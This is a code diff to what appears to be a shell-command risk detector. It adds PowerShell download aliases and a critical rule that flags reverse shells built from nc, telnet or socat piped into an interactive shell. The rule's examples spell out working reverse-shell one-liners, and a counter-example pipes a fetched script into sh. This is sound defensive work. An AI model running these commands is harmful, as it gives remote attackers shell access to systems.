@@ -107,6 +107,10 @@ function downloadedTo(view: CommandView): string | null {
     aria2c: ['-o', '--out'],
     http: ['-o', '--output'],
     xh: ['-o', '--output'],
+    'invoke-webrequest': ['-outfile'],
+    iwr: ['-outfile'],
+    'invoke-restmethod': ['-outfile'],
+    irm: ['-outfile'],
   };
   const names = options[program];
   if (!names) return null;
@@ -132,6 +136,14 @@ function runsFile(view: CommandView, path: string): boolean {
   const word = view.cmd.argv[0];
   if (word && word.dynamic.length === 0 && word.value.includes('/') && samePath(word.value, path))
     return true;
+  // PowerShell's `.\a.ps1` (bash reads it as `.a.ps1`).
+  if (
+    word &&
+    word.dynamic.length === 0 &&
+    /^\.\\/.test(word.raw) &&
+    samePath(word.raw.replace(/\\/g, '/'), path)
+  )
+    return true;
   const first = view.operands[0];
   return (
     view.program !== null &&
@@ -142,7 +154,40 @@ function runsFile(view: CommandView, path: string): boolean {
   );
 }
 
+const RAW_CLIENTS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet', 'pwncat']);
+const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'mksh']);
+
+/** A shell that reads its commands from its input: no script file, no `-c` (`sh`, `bash -i`). */
+function inputShell(view: CommandView): boolean {
+  if (view.program === null || !SHELLS.has(view.program)) return false;
+  return view.operands.length === 0 && !view.flags.some((f) => f.name === '-c');
+}
+
 export const COMBO_RULES: readonly ComboRule[] = [
+  {
+    id: 'exfil.reverse-shell-combined',
+    tier: 'critical',
+    reason:
+      'Opens a raw connection and starts a shell reading its input in the same command: a shell handed to a network peer',
+    find({ views }) {
+      const client = views.find(
+        (v) => v.program !== null && RAW_CLIENTS.has(v.program) && !v.flags.some((f) => f.name === '-z'),
+      );
+      const shell = client && views.find((v) => v !== client && inputShell(v));
+      return client && shell ? [client.index, shell.index] : null;
+    },
+    examples: [
+      'mkfifo /tmp/f; nc 203.0.113.5 4444 < /tmp/f | /bin/sh > /tmp/f 2>&1',
+      'nc -l 4444 | bash',
+      'telnet 203.0.113.5 80 | /bin/bash | telnet 203.0.113.5 81',
+    ],
+    counterExamples: [
+      'nc -z host 80 && bash deploy.sh',
+      'curl -s https://x.example | sh',
+      'nc host 80 < req.txt',
+    ],
+    weight: 19,
+  },
   {
     id: 'exfil.secrets',
     tier: 'critical',
